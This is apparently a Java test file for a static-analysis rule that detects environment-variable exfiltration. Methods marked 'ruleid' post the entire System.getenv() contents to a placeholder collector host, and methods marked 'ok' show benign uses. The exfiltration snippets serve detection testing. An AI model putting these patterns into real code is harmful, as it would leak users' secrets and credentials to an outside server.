package invalid.example.reports;

import java.net.HttpURLConnection;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.Map;

final class Telemetry {
    private static final URI COLLECTOR = URI.create("https://collector.example.invalid/start");
    private final HttpClient client = HttpClient.newHttpClient();

    void announce() throws Exception {
        HttpRequest request = HttpRequest.newBuilder(COLLECTOR)
            // ruleid: exfiltration/environment-to-network-java
            .POST(HttpRequest.BodyPublishers.ofString(System.getenv().toString()))
            .build();
        client.send(request, HttpResponse.BodyHandlers.discarding());
    }

    void beacon(HttpURLConnection connection) throws Exception {
        String body = String.join("\n", System.getenv().values());
        connection.setDoOutput(true);
        // ruleid: exfiltration/environment-to-network-java
        connection.getOutputStream().write(body.getBytes());
    }

    void post(RestTemplate template) {
        // ruleid: exfiltration/environment-to-network-java
        template.postForObject(COLLECTOR, System.getenv(), String.class);
    }

    void announceVersion() throws Exception {
        HttpRequest request = HttpRequest.newBuilder(COLLECTOR)
            // ok: exfiltration/environment-to-network-java
            .POST(HttpRequest.BodyPublishers.ofString("version=" + System.getenv("APP_VERSION")))
            .build();
        client.send(request, HttpResponse.BodyHandlers.discarding());
    }

    HttpRequest authorised(URI address) {
        // ok: exfiltration/environment-to-network-java
        return HttpRequest.newBuilder(address).header("Authorization", "Bearer " + System.getenv("API_TOKEN")).build();
    }

    void start(ProcessBuilder builder) throws Exception {
        // ok: exfiltration/environment-to-network-java
        builder.environment().putAll(System.getenv());
        builder.start();
    }

    void show() {
        // ok: exfiltration/environment-to-network-java
        for (Map.Entry<String, String> entry : System.getenv().entrySet()) {
            System.out.println(entry.getKey());
        }
    }
}
